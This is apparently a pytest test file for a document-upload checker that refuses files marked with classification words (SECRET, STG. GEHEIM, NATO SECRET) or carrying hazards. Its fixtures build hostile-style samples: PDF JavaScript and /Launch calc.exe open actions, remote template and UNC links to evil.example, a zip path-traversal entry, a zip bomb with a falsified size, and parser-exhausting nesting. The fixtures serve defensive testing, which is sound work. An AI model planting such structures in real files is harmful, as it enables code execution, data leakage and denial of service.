"""A file is looked through before anybody may read it: what kind it is, what it carries, which words stand in it."""

from __future__ import annotations

import struct
import time
import zipfile
from collections.abc import Callable
from io import BytesIO

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from dialogues.procedures.paper_checks import (
    LARGEST,
    examine,
    marked_above,
    may_be_spoken_of,
    refused_in_name,
    words_above,
)
from tests.papers import content_types, docx, packed, pdf, pptx, xlsx

MADE: dict[str, Callable[[str], bytes]] = {"pdf": pdf, "docx": docx, "xlsx": xlsx, "pptx": pptx}


def written(writer: PdfWriter) -> bytes:
    held = BytesIO()
    writer.write(held)
    return held.getvalue()


def a_writer() -> PdfWriter:
    return PdfWriter(clone_from=BytesIO(pdf("The ports.")))


@pytest.mark.parametrize("kind", MADE)
def test_each_kind_passes_by_its_content_whatever_its_name_and_a_word_of_a_higher_level_in_it_does_not(kind: str) -> None:
    plain = examine("brief.exe", MADE[kind]("Ports: what we know, and no secret of it."))
    assert (plain.faults, plain.file_type, plain.spoken_of) == ((), kind, ())
    assert not any("No text could be read" in one for one in plain.warnings)
    (fault,) = examine("brief.pdf", MADE[kind]("This page is UK SECRET as of today.")).faults
    assert "The text says “SECRET”" in fault


WORDS = [
    "SECRET",
    "TOP SECRET",
    "COSMIC TOP SECRET",
    "OFFICIAL-SENSITIVE",
    "OFFICIAL – SENSITIVE",
    "Official-Sensitive",
    "DEP. VERTROUWELIJK",
    "Dep.Vertrouwelijk",
    "DEPARTEMENTAAL VERTROUWELIJK",
    "STG. CONFIDENTIEEL",
    "Stg. GEHEIM",
    "STG. ZEER GEHEIM",
    "STAATSGEHEIM",
    "RESTREINT UE",
    "EU RESTRICTED",
    "EU CONFIDENTIAL",
    "NATO RESTRICTED",
    "NATO SECRET",
]


@pytest.mark.parametrize("word", WORDS)
def test_every_refused_word_is_found_in_a_text_and_in_a_file_name(word: str) -> None:
    (found, *_more) = words_above(f"The ports. {word}: read by nobody.")
    assert "above OFFICIAL" in marked_above(found)
    assert not may_be_spoken_of(found)
    assert refused_in_name(f"brief_{word.replace(' ', '_')}_v2.docx")
    assert not refused_in_name("secretariat_brief_officials.docx")


def test_what_is_only_spoken_of_needs_a_reason_and_in_capitals_is_refused() -> None:
    spoken = examine("a.docx", docx("He left top secret files in a pub; dat was staatsgeheim."))
    assert (spoken.faults, spoken.spoken_of) == ((), ("top secret", "staatsgeheim"))
    assert examine("a.docx", docx("TOP SECRET")).faults
    assert examine("a.docx", docx("top\u00a0se\u00adcret")).spoken_of == ("top secret",), (
        "neither blanks nor soft hyphens hide it"
    )


def test_an_empty_and_a_large_file_are_refused_without_being_read() -> None:
    assert examine("a.pdf", b"").faults == ("The file is empty. Choose another.",)
    assert "larger than 5 MB" in examine("a.pdf", pdf("x") + b"\0" * LARGEST).faults[0]


TEXT = b"Just text, named as a PDF."
BROKEN: dict[str, tuple[bytes, str]] = {
    "text": (TEXT, "no PDF, DOCX, XLSX or PPTX"),
    "a program": (b"MZ\x90\0" + b"\0" * 500, "no PDF, DOCX, XLSX or PPTX"),
    "an old or locked Office file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password"),
    "a PDF behind something else": (b"GIF89a" + b"%PDF-1.7", "no PDF"),
    "a head of a PDF": (b"%PDF-1.7\n", "cannot be read"),
    "nonsense in a PDF": (b"%PDF-1.7\n" + bytes(range(256)) * 50, "cannot be read"),
    "half a zip": (b"PK\x03\x04" + b"\0" * 300, "cannot be read"),
    "a zip of nothing known": (packed({"a.txt": "hello"}), "cannot be read"),
    "a zip of another kind": (
        packed({"[Content_Types].xml": content_types("a.xml", "application/xml"), "a.xml": "<a/>"}),
        "no PDF, DOCX",
    ),
    "NUL in a part": (docx("x", **{"word/footer1.xml": "<a>\0</a>"}), "cannot be read"),
    "entities": (docx("x", **{"word/e.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "cannot be read"),
    "way out of the folder": (docx("x", **{"../evil.xml": "<a/>"}), "cannot be read"),
    "macros": (docx("x", **{"word/vbaProject.bin": b"\0"}), "macros"),
    "an embedded workbook": (docx("x", **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "hidden inside"),
    "a program as a picture": (docx("x", **{"word/media/a.png": b"MZ" + b"\0" * 60 + b"This program cannot"}), "hidden inside"),
    "a page that Word takes in": (docx("x", **{"word/afchunk.htm": "<html>STG. GEHEIM</html>"}), "hidden inside"),
    "a template elsewhere": (
        docx(
            "x",
            **{
                "word/_rels/settings.xml.rels": '<Relationships><Relationship Type="http://x/attachedTemplate" '
                'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
            },
        ),
        "from elsewhere",
    ),
    "a word in the properties": (docx("x", **{"docProps/custom.xml": "<p><lpwstr>OFFICIAL-SENSITIVE</lpwstr></p>"}), "above"),
}


@pytest.mark.parametrize("what", BROKEN)
def test_what_is_broken_or_carries_something_is_refused_with_what_to_do(what: str) -> None:
    content, sentence = BROKEN[what]
    faults = examine("brief.pdf", content).faults
    assert any(sentence in fault for fault in faults), faults


def test_a_macro_by_its_content_type_and_a_link_to_a_page_are_told_apart() -> None:
    macro = packed(
        {"[Content_Types].xml": content_types("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")}
    )
    assert "macros" in examine("a.docx", macro).faults[0]
    link = '<Relationship Type="http://x/hyperlink" Target="https://a.example" TargetMode="External"/>'
    linked = docx("x", **{"word/_rels/document.xml.rels": f"<Relationships>{link}</Relationships>"})
    assert examine("a.docx", linked).faults == ()


def test_a_locked_zip_is_refused_by_its_directory() -> None:
    content = bytearray(docx("x"))
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1  # the flag that says encrypted
    assert "password" in examine("a.docx", bytes(content)).faults[0]


def test_a_zip_bomb_is_refused_before_it_is_unpacked_and_one_that_lies_about_its_size_as_well() -> None:
    began = time.monotonic()
    bomb = docx("x", **{"word/media/a.bin": b"\0" * 80 * 1024 * 1024})
    assert len(bomb) < LARGEST
    assert "unpacks to far more" in examine("a.docx", bomb).faults[0]
    lying = bytearray(docx("x", **{"word/large.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}))
    for at in range(len(lying) - 46):
        if lying[at : at + 4] == b"PK\x01\x02" and b"large" in lying[at + 46 : at + 66]:
            lying[at + 24 : at + 28] = struct.pack("<I", 400)
    with zipfile.ZipFile(BytesIO(bytes(lying))) as held:
        assert held.getinfo("word/large.xml").file_size == 400
    assert "cannot be read" in examine("a.docx", bytes(lying)).faults[0]
    assert time.monotonic() - began < 20


def javascript(writer: PdfWriter) -> None:
    act = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject(key): value for key, value in act.items()})


def launch(writer: PdfWriter) -> None:
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    writer._root_object[NameObject("/OpenAction")] = action


def launch_named_elsewhere(writer: PdfWriter) -> None:
    """The name of the action is an object of its own."""
    name = writer._add_object(NameObject("/Launch"))
    action = DictionaryObject({NameObject("/S"): name, NameObject("/F"): TextStringObject("calc.exe")})
    writer._root_object[NameObject("/OpenAction")] = action


def file_of_elsewhere(writer: PdfWriter) -> None:
    action = {"/S": NameObject("/GoToR"), "/F": TextStringObject("//evil.example/share/a.pdf")}
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject(key): value for key, value in action.items()})


def attachment(writer: PdfWriter) -> None:
    writer.add_attachment("a.txt", b"hello")


def password(writer: PdfWriter) -> None:
    writer.encrypt("hidden", algorithm="AES-256")


def a_word_in_a_note(writer: PdfWriter) -> None:
    note = {"/Type": NameObject("/Annot"), "/Subtype": NameObject("/Text"), "/Contents": TextStringObject("STG. GEHEIM")}
    given = DictionaryObject({NameObject(key): value for key, value in note.items()})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(given)])


@pytest.mark.parametrize(
    ("put_in", "sentence"),
    [
        (javascript, "holds a script"),
        (launch, "starts or sends something"),
        (launch_named_elsewhere, "starts or sends something"),
        (file_of_elsewhere, "starts or sends something"),
        (attachment, "carries other files"),
        (password, "has a password"),
        (a_word_in_a_note, "“STG. GEHEIM”"),
    ],
)
def test_a_pdf_that_does_or_carries_something_is_refused(put_in: Callable[[PdfWriter], None], sentence: str) -> None:
    writer = a_writer()
    assert examine("a.pdf", written(writer)).faults == ()
    put_in(writer)
    assert any(sentence in fault for fault in examine("a.pdf", written(writer)).faults)


def test_a_pdf_made_to_exhaust_its_reader_is_refused_within_its_time() -> None:
    began = time.monotonic()
    deep = b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\n"
    assert "cannot be read" in examine("a.pdf", deep + b"trailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF").faults[0]
    many = PdfWriter()
    for _page in range(501):
        many.add_blank_page(100, 100)
    assert "more than 500 pages" in examine("a.pdf", written(many)).faults[0]
    assert time.monotonic() - began < 25


def test_a_page_without_text_and_a_name_in_the_properties_are_warned_of() -> None:
    writer = PdfWriter()
    writer.add_blank_page(300, 300)
    writer.add_metadata({"/Author": "A. Person"})
    scanned = examine("a.pdf", written(writer))
    assert scanned.faults == ()
    assert [one for one in scanned.warnings if "No text could be read" in one]
    assert [one for one in scanned.warnings if "name a person" in one]
    core = "<cp><creator>A. Person</creator></cp>"
    assert any("name a person" in one for one in examine("a.docx", docx("x", **{"docProps/core.xml": core})).warnings)
